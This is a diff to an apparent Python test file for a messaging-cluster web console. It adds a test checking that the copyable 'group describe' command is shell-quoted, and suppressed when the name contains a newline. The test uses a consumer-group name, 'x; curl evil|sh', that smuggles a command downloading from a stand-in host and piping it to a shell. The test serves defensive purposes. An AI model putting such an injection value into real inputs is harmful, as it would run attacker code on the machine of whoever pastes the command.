@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+from urllib.parse import quote
+
 import httpx
 from fastapi import FastAPI
 
@@ -30,6 +32,19 @@ async def test_groups_are_listed_and_each_has_its_lag(
     assert '<td data-label="Lag" class="n">3</td>' in one.text
     assert "/console/topics/t/messages?partition=0&amp;offset=2" in one.text
     assert "3 records" in one.text
+
+
+async def test_the_command_of_a_group_is_safe_to_paste(
+    http: httpx.AsyncClient, cluster: str, application: FastAPI
+) -> None:
+    await http.post(f"{cluster}/topics", json={"topic_name": "t"})
+    for name in ("x; curl evil|sh", "x; curl evil|sh\n"):
+        await committed(application, name, 0)
+    one = (await http.get(f"/console/groups/{quote('x; curl evil|sh')}")).text
+    assert 'data-copy="firn group describe &#39;x; curl evil|sh&#39;"' in one
+    two = await http.get(f"/console/groups/{quote('x; curl evil|sh' + chr(10))}")
+    assert two.status_code == 200
+    assert "data-copy" not in two.text
 
 
 async def test_a_group_that_there_is_not_is_404(http: httpx.AsyncClient, cluster: str) -> None:
